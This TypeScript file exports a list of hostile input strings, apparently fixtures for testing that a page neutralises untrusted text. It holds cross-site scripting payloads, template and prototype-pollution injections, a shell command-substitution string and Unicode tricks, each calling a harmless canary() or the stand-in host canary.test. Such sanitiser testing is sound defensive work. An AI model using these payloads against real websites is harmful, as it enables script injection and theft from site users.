/**
 * Texts that run where a page takes text for markup, a URL, a style or a template: each calls `canary()`, asks for
 * something that has `canary` in its name, or spoils what stands beside it.
 */
export const hostileTexts: readonly string[] = [
  // Markup, in and out of what may stand around it.
  '<script>canary()</script>',
  '"><script>canary()</script>',
  "'><script>canary()</script>",
  '</title><script>canary()</script>',
  '</textarea><script>canary()</script>',
  '</script><script>canary()</script>',
  '<scr<script>ipt>canary()</scr</script>ipt>',
  '<SCRIPT SRC=//canary.test/x.js></SCRIPT>',
  '<script src="data:text/javascript,canary()"></script>',
  '--><img src=x onerror=canary()>',
  ']]><img src=x onerror=canary()>',
  '<noscript><p title="</noscript><img src=x onerror=canary()>">',
  // Attributes that are scripts.
  '<img src=x onerror=canary()>',
  '<img src=`x`onerror=canary()>',
  '<img/src="x"/onerror="canary()">',
  '<img src=//canary.test/pixel.png>',
  '<body onload=canary()>',
  '<input autofocus onfocus=canary()>',
  '<details open ontoggle=canary()>x</details>',
  '<video><source onerror=canary()></video>',
  '<marquee onstart=canary()>x</marquee>',
  '<p style="animation:x" onanimationstart=canary()>x</p>',
  '" onmouseover="canary()" autofocus onfocus="canary()" x="',
  "' onfocus='canary()' autofocus x='",
  // Addresses that are scripts or lead elsewhere.
  'javascript:canary()',
  'JaVaScRiPt:canary()//',
  'data:text/html,<script>canary()</script>',
  '<a href="javascript:canary()">x</a>',
  '<iframe src="javascript:parent.canary()"></iframe>',
  '<iframe srcdoc="<script>parent.canary()</script>"></iframe>',
  '<object data="//canary.test/x.swf"></object>',
  '<embed src="//canary.test/x">',
  '<base href="//canary.test/">',
  '<meta http-equiv="refresh" content="0;url=//canary.test/">',
  '<form action="//canary.test/"><button autofocus>x</button></form>',
  '<link rel=stylesheet href=//canary.test/x.css>',
  '//canary.test/%2e%2e/',
  // SVG and MathML.
  '<svg onload=canary()>',
  '<svg><script>canary()</script></svg>',
  '<svg><animate onbegin=canary() attributeName=x dur=1s></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=canary()></style></mglyph></table></mtext></math>',
  // Styles.
  '<style>@import "//canary.test/x.css";</style>',
  '</style><style>*{background:url(//canary.test/y.png)}</style>',
  'expression(canary());background:url(//canary.test/z.png)',
  // Templates and keys of objects.
  '{{constructor.constructor("canary()")()}}',
  `\${canary()}\`\${canary()}\``,
  '<%= canary() %>#{canary()}',
  '__proto__',
  // Escapes of JSON, XML, URLs and shells.
  '\\u003cimg src=x onerror=canary()\\u003e',
  '&lt;img src=x onerror=canary()&gt;',
  '%3Cimg%20src=x%20onerror=canary()%3E',
  '\\"};canary();//',
  "'; canary(); echo '$(canary)",
  // Unicode: fullwidth marks, marks that fall together when normalized, directions, nothing wide, half of a character.
  '\uFF1Cscript\uFF1Ecanary()\uFF1C/script\uFF1E',
  '\u2039img src=x onerror=canary()\u203A',
  'abc\u202Etxt.exe<img src=x onerror=canary()>',
  '\u2066<script>canary()</script>\u2069',
  'ab\u200B\u200D\uFEFFcd<svg onload=canary()>',
  'null\u2400<img src=x onerror=canary()>',
  'Z\u0351\u0361a\u0315l\u0489go'.repeat(8),
  // Long.
  `${'A'.repeat(3_000)}<img src=x onerror=canary()>`,
]
